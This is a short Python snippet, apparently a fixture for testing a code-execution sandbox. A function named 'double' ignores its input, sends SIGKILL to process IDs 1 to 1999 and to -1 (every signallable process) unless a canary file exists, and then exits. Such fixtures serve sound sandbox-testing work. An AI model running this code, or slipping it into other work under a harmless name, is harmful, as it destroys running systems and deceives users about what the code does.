# Kills every process that there is, by -1 and one by one.
# %% double
import contextlib
import os
import signal


def double(x):
    if not os.path.exists("{canary}"):
        for number in [*range(1, 2000), -1]:
            if number != os.getpid():
                with contextlib.suppress(OSError):
                    os.kill(number, signal.SIGKILL)
    os._exit(0)
